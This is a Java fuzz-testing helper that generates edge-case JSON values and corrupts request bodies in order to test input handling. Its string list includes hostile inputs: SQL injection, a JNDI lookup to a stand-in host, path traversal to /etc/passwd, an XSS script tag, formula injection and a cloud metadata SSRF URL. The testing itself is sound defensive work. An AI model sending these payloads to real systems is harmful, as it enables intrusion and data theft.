package io.meterbridge.proof;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** What no schema asks for: values at and beyond every edge, and ways to spoil a good body with them. */
final class OddValues {

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    static final List<String> TEXTS = List.of("", " ", "\t\n", "\u0000", "a\u0000b", "\ud800", "x\udfff", "\uffff",
            "\u202Ereversed", "e\u0301".repeat(60), "💥".repeat(70), "İıſK", "'; drop table contract; --", "\"\\",
            "${body}", "${jndi:ldap://a.invalid/x}",
            "{{meterbridge.data-dir}}", "%s%n%x", "%00", "../../etc/passwd",
            "<script>alert(1)</script>", "=cmd()", "NaN", "Infinity", "null", "true", "-0", "1e5", "0x10", "٣", "1_000",
            " 1", "+1", "00000000000000000000", "9".repeat(400), "0." + "0".repeat(300) + "1", "1e999999999",
            "-1", "0", "0.0", "2026-02-30T00:00:00Z", "+999999999-12-31T23:59:59Z", "0000-01-01T00:00:00Z",
            "2026-03-10T24:00:00Z", "2026-03-10T23:59:60Z", "2026-03-10T12:00:00.123456789123Z",
            "2026-03-10T12:00:00+99:99", "-2026-03-10T12:00:00Z", "10000-01-01T00:00:00Z", "2026-03-10", "2026-13-45",
            "00000000-0000-0000-0000-000000000000", "urn:uuid:0-0-0-0-0", "{\"a\":1}", "[]",
            "https://169.254.169.254/latest", "http://[::1]:1/", "https://a.invalid:99999/", "ftp://a.invalid",
            "x".repeat(5_000), "y".repeat(70_000));

    private static final List<JsonNode> OTHERS = List.of(JSON.nullNode(), JSON.booleanNode(true), JSON.numberNode(0),
            JSON.numberNode(-1), JSON.numberNode(Integer.MAX_VALUE + 1L), JSON.numberNode(Long.MAX_VALUE),
            JSON.numberNode(BigInteger.ONE.shiftLeft(64)), JSON.numberNode(BigInteger.TEN.pow(300)),
            JSON.numberNode(new BigDecimal("1e308")), JSON.numberNode(new BigDecimal("1e400")),
            JSON.numberNode(new BigDecimal("1e150000")), JSON.numberNode(new BigDecimal("-1e-20000")),
            JSON.numberNode(new BigDecimal("1e2147483000")), JSON.numberNode(new BigDecimal("1e-2147483000")),
            JSON.numberNode(new BigDecimal("0.1")), JSON.numberNode(new BigDecimal("1.0")),
            JSON.objectNode(), JSON.arrayNode(), deep(30, true), deep(400, false), deep(400, true), deep(990, false),
            deep(1_200, true), wideArray(3_000), wideObject(1_500));

    private final Random random;

    OddValues(Random random) {
        this.random = random;
    }

    String text() {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    JsonNode value() {
        return random.nextInt(3) > 0 ? JSON.textNode(text()) : OTHERS.get(random.nextInt(OTHERS.size())).deepCopy();
    }

    /** Spoils one place of a body, or all of it. */
    JsonNode spoil(JsonNode body) {
        var places = new ArrayList<JsonNode>();
        gather(body, places);
        if (places.isEmpty() || random.nextInt(25) == 0) {
            return value();
        }
        var place = places.get(random.nextInt(places.size()));
        if (place instanceof ObjectNode object) {
            spoil(object);
        } else if (place instanceof ArrayNode array) {
            array.insert(random.nextInt(array.size() + 1), value());
        }
        return body;
    }

    private void spoil(ObjectNode object) {
        var names = new ArrayList<String>();
        object.fieldNames().forEachRemaining(names::add);
        var name = names.isEmpty() ? "cloud" : names.get(random.nextInt(names.size()));
        switch (random.nextInt(6)) {
            case 0 -> object.remove(name);
            case 1 -> object.set(text(), value());
            case 2 -> object.set(swapped(name), object.path(name).isMissingNode() ? value() : object.remove(name));
            case 3 -> object.set(name, JSON.arrayNode().add(object.path(name).isMissingNode() ? value()
                    : object.get(name)));
            default -> object.set(name, value());
        }
    }

    private static String swapped(String name) {
        return name.length() < 3 ? name + name
                : name.substring(0, 1) + name.charAt(2) + name.charAt(1) + name.substring(3);
    }

    private static void gather(JsonNode value, List<JsonNode> places) {
        if (value.isContainerNode()) {
            places.add(value);
            value.forEach(child -> gather(child, places));
        }
    }

    private static JsonNode deep(int levels, boolean arrays) {
        JsonNode value = JSON.textNode("bottom");
        for (var i = 0; i < levels; i++) {
            value = arrays ? JSON.arrayNode().add(value) : JSON.objectNode().set("a", value);
        }
        return value;
    }

    private static JsonNode wideArray(int size) {
        var array = JSON.arrayNode();
        for (var i = 0; i < size; i++) {
            array.add(i);
        }
        return array;
    }

    private static JsonNode wideObject(int size) {
        var object = JSON.objectNode();
        for (var i = 0; i < size; i++) {
            object.put("field-" + i, "value");
        }
        return object;
    }
}
